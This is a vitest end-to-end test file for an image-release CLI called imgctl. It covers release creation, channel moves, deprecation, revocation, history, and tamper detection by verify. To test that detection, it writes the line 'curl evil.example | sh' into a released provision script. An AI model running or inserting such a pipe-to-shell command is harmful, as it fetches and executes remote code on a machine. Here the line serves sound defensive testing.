/**
 * Releases from the command line, through the real imgctl: `release create|deprecate|revoke`,
 * `channel set|list`, `image history`, and what `verify` does with releases.
 */
import { createHash, randomBytes } from 'node:crypto';
import { access, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, inject, it } from 'vitest';
import { type CliResult, execImgctl, makeStore, makeTempDir, MiB } from './helpers/index.ts';

const sha256 = (data: Uint8Array) => createHash('sha256').update(data).digest('hex');
const blobFile = (store: string, hex: string) => join(store, '.blobs/sha256', hex.slice(0, 2), hex);
const TODAY = /^\d{4}-\d{2}-\d{2}$/;

/** imgctl (the bundle the e2e run built) in `store`; `exit` is the exit code expected. */
async function imgctl(store: string, args: string[], exit = 0): Promise<CliResult> {
  const result = await execImgctl(args, {
    cwd: store,
    entry: join(inject('distDir'), 'imgctl.mjs'),
  });
  expect(result.exitCode, `imgctl ${args.join(' ')}\n${result.stderr}${result.stdout}`).toBe(exit);
  return result;
}

/** A store with image web whose system disk `root` holds 1 MiB of random content (revision 2). */
async function storeWithDisk(): Promise<{ store: string; root: string }> {
  const { dir: store } = await makeStore();
  await imgctl(store, ['image', 'create', 'web']);
  const { root } = await addRoot(store);
  return { store, root };
}

/** `imgctl disk add web FILE --id root --use system` with new random content; its sha256. */
async function addRoot(store: string): Promise<{ root: string }> {
  const { dir } = await makeTempDir();
  const content = randomBytes(MiB);
  await writeFile(join(dir, 'root.raw'), content);
  await imgctl(store, [
    'disk',
    'add',
    'web',
    join(dir, 'root.raw'),
    '--id',
    'root',
    '--use',
    'system',
  ]);
  return { root: sha256(content) };
}

/** Every file of the store but runtime state and blobs, with its content. */
async function storeFiles(store: string): Promise<Map<string, string>> {
  const files = new Map<string, string>();
  for (const entry of await readdir(store, { recursive: true, withFileTypes: true })) {
    const rel = join(entry.parentPath, entry.name).slice(store.length + 1);
    if (entry.isFile() && !/^\.(state|blobs)\//.test(rel))
      files.set(rel, await readFile(join(store, rel), 'utf8'));
  }
  return files;
}

function changedFiles(before: Map<string, string>, after: Map<string, string>): string[] {
  return [...new Set([...before.keys(), ...after.keys()])]
    .filter((f) => before.get(f) !== after.get(f))
    .sort();
}

/** The lines of a table, each split into its columns (two or more spaces apart). */
const rows = (text: string) =>
  text
    .trimEnd()
    .split('\n')
    .map((l) => l.split(/ {2,}/));

describe('imgctl release create, channel set|list, image history', () => {
  it('freeze revisions, move channels one file at a time, and list the lineage', async () => {
    const { store, root } = await storeWithDisk();
    expect((await imgctl(store, ['release', 'create', 'web', '--channel', 'stable'])).stdout).toBe(
      'released web@2 (channels: stable)\n',
    );
    const again = await imgctl(store, ['release', 'create', 'web'], 5);
    expect(again.stderr).toContain('web@2 is already released');

    await imgctl(store, ['image', 'set', 'web', 'devices.vcpus=2']);
    const third = JSON.parse((await imgctl(store, ['release', 'create', 'web', '--json'])).stdout);
    expect(third).toMatchObject({
      ref: 'web@3',
      channels: [],
      release: { image: 'web', revision: 3, disks: { root } },
    });
    expect(third.release.files['images/web/image.yaml']).toMatch(/^[0-9a-f]{64}$/);

    // moving a channel is one reviewable change of one file
    const before = await storeFiles(store);
    expect((await imgctl(store, ['channel', 'set', 'web', 'stable', '3'])).stdout).toBe(
      'web: stable → 3 (was 2)\n',
    );
    expect(changedFiles(before, await storeFiles(store))).toEqual(['releases/web/channels.yaml']);
    expect((await imgctl(store, ['channel', 'set', 'web', 'beta', '2'])).stdout).toBe(
      'web: beta → 2 (new)\n',
    );
    expect(rows((await imgctl(store, ['channel', 'list', 'web'])).stdout)).toEqual([
      ['CHANNEL', 'REVISION', 'STATE'],
      ['beta', '2', 'active'],
      ['stable', '3', 'active'],
    ]);
    expect((await imgctl(store, ['channel', 'set', 'web', 'stable', '9'], 4)).stderr).toContain(
      'web@9 is not a release',
    );
    await imgctl(store, ['channel', 'set', 'web', 'Stable!', '3'], 2);

    // a later edit never changes a release
    await imgctl(store, ['image', 'set', 'web', 'devices.vcpus=4']);
    const frozen = await readFile(join(store, 'releases/web/3/images/web/image.yaml'), 'utf8');
    expect(frozen).toMatch(/vcpus: 2/);

    const table = rows((await imgctl(store, ['image', 'history', 'web'])).stdout);
    expect(table[0]).toEqual(['REVISION', 'PARENT', 'CHANNELS', 'CREATED', 'BY', 'STATE']);
    expect(table.slice(1, 3).map((r) => [r[0], r[1], r[2], r[5]])).toEqual([
      ['2', '-', 'beta', 'active'],
      ['3', '-', 'stable', 'active'],
    ]);
    expect(table[1]![3]).toMatch(TODAY);
    expect(table[1]![4]).toMatch(/^\S+@\S+ \(imgctl \d+\.\d+\.\d+\)$/);
    expect(table.at(-1)).toEqual(['working revision 4 (not released)']);

    const history = JSON.parse((await imgctl(store, ['image', 'history', 'web', '--json'])).stdout);
    expect(history.working).toEqual({ revision: 4, released: false });
    expect(
      history.releases.map((r: { revision: number; channels: string[] }) => [
        r.revision,
        r.channels,
      ]),
    ).toEqual([
      [2, ['beta']],
      [3, ['stable']],
    ]);

    // once the working revision is released, no working line
    await imgctl(store, ['release', 'create', 'web']);
    expect((await imgctl(store, ['image', 'history', 'web'])).stdout).not.toContain('working');

    // a copy carries its parent into its releases' lineage
    await imgctl(store, ['image', 'copy', 'web', 'web-next']);
    await imgctl(store, ['release', 'create', 'web-next']);
    expect(
      rows((await imgctl(store, ['image', 'history', 'web-next'])).stdout)[1]!.slice(0, 2),
    ).toEqual(['1', 'web@4']);
  });
});

describe('imgctl release deprecate and revoke', () => {
  it('record when and why, and refuse what would leave a channel on a revoked release', async () => {
    const { store } = await storeWithDisk();
    await imgctl(store, ['release', 'create', 'web', '--channel', 'beta']);
    await imgctl(store, ['image', 'set', 'web', 'devices.vcpus=2']);
    await imgctl(store, ['release', 'create', 'web', '--channel', 'stable']);

    expect(
      (await imgctl(store, ['release', 'deprecate', 'web@2', '--reason', 'slow boot'])).stdout,
    ).toBe('deprecated web@2: slow boot\n');
    expect((await imgctl(store, ['release', 'revoke', 'web@2'], 2)).stderr).toContain(
      'release revoke needs --reason TEXT',
    );
    await imgctl(store, ['release', 'revoke', 'web', '--reason', 'x'], 2);
    await imgctl(store, ['release', 'revoke', 'web@beta', '--reason', 'x'], 2);

    const pointed = await imgctl(
      store,
      ['release', 'revoke', 'web@2', '--reason', 'CVE-2026-1'],
      5,
    );
    expect(pointed.stderr).toContain('channel beta of web points at web@2');
    expect(pointed.stderr).toContain('hint: move it first: imgctl channel set web beta REVISION');

    await imgctl(store, ['channel', 'set', 'web', 'beta', '3']);
    expect(
      (await imgctl(store, ['release', 'revoke', 'web@2', '--reason', 'CVE-2026-1'])).stdout,
    ).toBe('revoked web@2: CVE-2026-1\n');
    const refused = await imgctl(store, ['channel', 'set', 'web', 'beta', '2'], 5);
    expect(refused.stderr).toContain("web@2 is revoked: channel 'beta' cannot point at it");
    await imgctl(store, ['release', 'deprecate', 'web@2'], 5);

    const table = rows((await imgctl(store, ['image', 'history', 'web'])).stdout);
    expect(table[1]![5]).toMatch(/^revoked \d{4}-\d{2}-\d{2}: CVE-2026-1$/);
    expect(table[2]![5]).toBe('active');
    const history = JSON.parse((await imgctl(store, ['image', 'history', 'web', '--json'])).stdout);
    expect(history.releases[0]).toMatchObject({
      state: 'revoked',
      deprecated: { reason: 'slow boot', by: expect.stringContaining('@') as unknown },
      revoked: { reason: 'CVE-2026-1', at: expect.stringMatching(/Z$/) as unknown },
    });
    expect(rows((await imgctl(store, ['channel', 'list', 'web'])).stdout).slice(1)).toEqual([
      ['beta', '3', 'active'],
      ['stable', '3', 'active'],
    ]);
  });
});

describe('imgctl verify and releases', () => {
  it('finds a tampered release file (exit 7), and --gc keeps a blob only a release names', async () => {
    const { store, root } = await storeWithDisk();
    await imgctl(store, ['release', 'create', 'web']);
    expect((await imgctl(store, ['verify'])).stdout).toContain('1 release(s) valid');

    const script = join(store, 'releases/web/2/images/web/provision.sh');
    const original = await readFile(script, 'utf8');
    await writeFile(script, `${original}curl evil.example | sh\n`);
    const tampered = await imgctl(store, ['verify'], 7);
    expect(tampered.stderr).toContain(
      'releases/web/2/images/web/provision.sh: not what release web@2 recorded',
    );
    await writeFile(script, original);
    await imgctl(store, ['verify']);

    // the image moves on to another disk: only web@2 still names the first one
    const { root: next } = await addRoot(store);
    expect(next).not.toBe(root);
    const gc = JSON.parse((await imgctl(store, ['verify', '--gc', '--json'])).stdout);
    expect(gc.removed).toEqual([]);
    expect(gc.blobs).toEqual({ checked: 2, bad: [] });
    await access(blobFile(store, root));

    // the release's blob gone: verify names the release
    await rm(blobFile(store, root), { force: true });
    const missing = await imgctl(store, ['verify'], 7);
    expect(missing.stderr).toContain(`releases/web/2: disk root: blob ${root} is missing`);
  });
});
